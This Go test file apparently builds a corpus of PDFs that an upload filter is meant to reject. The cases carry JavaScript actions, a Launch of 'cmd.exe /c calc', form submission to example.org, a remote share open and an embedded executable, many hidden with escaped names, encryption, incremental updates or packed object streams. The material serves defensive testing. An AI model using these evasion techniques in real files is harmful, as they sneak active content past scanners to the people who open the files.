package corpus

// PDFs that run something, send something or open another file, in the places and spellings that the format allows.

import (
	"bytes"
	"compress/lzw"
	"encoding/ascii85"
	"encoding/hex"
	"fmt"
	"strings"
)

func scripts() (all []Upload) {
	add := func(what string, data []byte) { all = append(all, refuse(what, "a.pdf", data, "pdf_script")) }
	widget := func(more string) string {
		return "<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /Rect [0 0 9 9] /P 3 0 R " + more + " >>"
	}
	for _, on := range []string{"K", "F", "V", "C", "E", "X", "D", "U", "Fo", "Bl", "PO", "PC", "PV", "PI"} {
		add("script of a field on "+on, PDFBuild("/AcroForm << /Fields [10 0 R] >>", "/Annots [10 0 R]", "", widget("/AA << /"+on+" "+scriptAction+" >>")))
	}
	for _, on := range []string{"WC", "WS", "DS", "WP", "DP"} {
		add("script of the document on "+on, PDFWith("/AA << /"+on+" "+scriptAction+" >>"))
	}
	add("script on closing a page", PDFBuild("", "/AA << /C "+scriptAction+" >>", ""))
	add("script after a jump", PDFWith("/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [ << /S /Named /N /NextPage >> "+scriptAction+" ] >>"))
	add("script of an outline", PDFWith("/Outlines 10 0 R", "<< /First 11 0 R /Last 11 0 R /Count 1 >>", "<< /Title (a) /Parent 10 0 R /A "+scriptAction+" >>"))
	add("script of a link", PDFBuild("", "/Annots [10 0 R]", "", "<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A 11 0 R >>", scriptAction))
	add("script of a rendition", PDFBuild("", "/Annots [10 0 R]", "", "<< /Type /Annot /Subtype /Screen /Rect [0 0 9 9] /A << /S /Rendition /OP 0 /JS (1) >> >>"))
	add("script of a drawing in space", PDFBuild("", "/Annots [10 0 R]", "", "<< /Type /Annot /Subtype /3D /Rect [0 0 9 9] /3DD 11 0 R >>", PDFStream("/Type /3D /Subtype /U3D /OnInstantiate 12 0 R", "U3D"), PDFStream("", "console.println(1)")))
	add("script nobody refers to", PDFWith("", scriptAction))
	add("script in a stream", PDFWith("/OpenAction << /S /JavaScript /JS 10 0 R >>", PDFStream("", "app.alert(1)")))
	add("script between objects in a stream that is none", PDFWith("/OpenAction 11 0 R", "(x)\nendobj\nstream\n11 0 obj\n"+scriptAction+"\nendobj\nendstream\n10 1 obj\n(y)", scriptAction))
	add("script behind a comment", PDFWith("/OpenAction % ( <\n"+scriptAction))
	add("script without blanks", PDFWith("/OpenAction<</S/JavaScript/JS(1)>>"))
	add("script with its name over a line", PDFWith("/OpenAction <<\r/S\r/JavaScript\r/JS\r(1)\r>>"))
	add("script with its letters escaped anew", PDFWith("/OpenAction << /#53 /#4aava#53cript /#4A#53 (1) >>"))
	add("script added later", later(PDFWith(""), "1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction "+scriptAction+" >>\nendobj\n"))
	add("script taken away later", later(PDFWith("/OpenAction "+scriptAction), "1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"))
	add("sends a form", PDFWith("/OpenAction << /S /SubmitForm /F (https://example.org/) >>"))
	add("sends a form at a button", PDFBuild("/AcroForm << /Fields [10 0 R] >>", "/Annots [10 0 R]", "", widget("/A << /S /Submit#46orm /F << /FS /URL /F (https://example.org/) >> >>")))
	add("sends a form, packed away", PDFPacked("/OpenAction 10 0 R", "<< /S /SubmitForm /F (https://example.org/) >>"))
	add("opens another file", PDFWith("/OpenAction << /S /GoToR /F (\\\\\\\\example.org\\\\share) /D [0 /Fit] >>"))
	add("opens another file, packed away", PDFPacked("/OpenAction 10 0 R", "<< /S /G#6fToR /F (x) /D [0 /Fit] >>"))
	add("imports data", PDFWith("/OpenAction << /S /ImportData /F (x.fdf) >>"))
	add("starts a program with its name escaped", PDFWith("/OpenAction << /S /#4Caunch /Win << /F (cmd.exe) /P (/c calc) >> >>"))
	add("starts a program at a link", PDFBuild("", "/Annots [10 0 R]", "", "<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /Launch /F (a.sh) >> >>"))
	add("carries a file at a pin", PDFBuild("", "/Annots [10 0 R]", "", "<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS << /Type /Filespec /F (a.exe) /EF << /F 11 0 R >> >> >>", PDFStream("/Type /EmbeddedFile", "MZ")))
	add("is a parcel of files", PDFWith("/Collection << /View /T >> /Names << /EmbeddedFiles << /Names [] >> >>"))
	add("form of another kind with a script", PDFWith("/AcroForm << /Fields [] /#58FA [(template) 10 0 R] >>", PDFStream("", "<template><script>1</script></template>")))
	add("starts a program in an encrypted pdf", PDFLocked("", "/OpenAction 10 0 R", "<< /S /Launch /F ⟨cmd.exe⟩ >>"))
	add("carries a file in an encrypted pdf", PDFLocked("", "/Names << /EmbeddedFiles << /Names [⟨a⟩ 10 0 R] >> >>", "<< /Type /Filespec /F ⟨a.exe⟩ >>"))
	for what, filter := range map[string][2]string{
		"ASCIIHex": {"/ASCIIHexDecode", "x"}, "ASCII85 and Flate": {"[/ASCII85Decode /FlateDecode]", "x"}, "LZW": {"/LZWDecode /DecodeParms << /EarlyChange 0 >>", "x"}, "nothing": {"null", "x"},
	} {
		add("script packed away with "+what, packedWith(filter[0], what))
	}
	return all
}

// later adds objects to a PDF as a program does that only appends.
func later(file []byte, object string) []byte {
	before := bytes.LastIndex(file, []byte("startxref\n"))
	start := strings.Fields(string(file[before:]))[1]
	at, out := len(file), bytes.NewBuffer(bytes.Clone(file))
	out.WriteString(object)
	table := out.Len()
	fmt.Fprintf(out, "xref\n1 1\n%010d 00000 n \ntrailer\n<< /Size 6 /Root 1 0 R /Prev %s >>\nstartxref\n%d\n%%%%EOF\n", at, start, table)
	return out.Bytes()
}

// packedWith has its catalogue and a script in an object stream that is coded in another way.
func packedWith(filter, how string) []byte {
	first := "<< /Type /Catalog /Pages 2 0 R /OpenAction 10 0 R >> "
	index := fmt.Sprintf("1 0 10 %d ", len(first))
	body := []byte(index + first + scriptAction)
	var coded bytes.Buffer
	switch how {
	case "ASCIIHex":
		coded.WriteString(hex.EncodeToString(body) + ">")
	case "ASCII85 and Flate":
		w := ascii85.NewEncoder(&coded)
		_, _ = w.Write([]byte(Deflated(string(body))))
		w.Close()
		coded.WriteString("~>")
	case "LZW":
		w := lzw.NewWriter(&coded, lzw.MSB, 8)
		_, _ = w.Write(body)
		w.Close()
	default:
		coded.Write(body)
	}
	return packed(PDFStream(fmt.Sprintf("/Type /ObjStm /N 2 /First %d /Filter %s", len(index), filter), coded.String()))
}
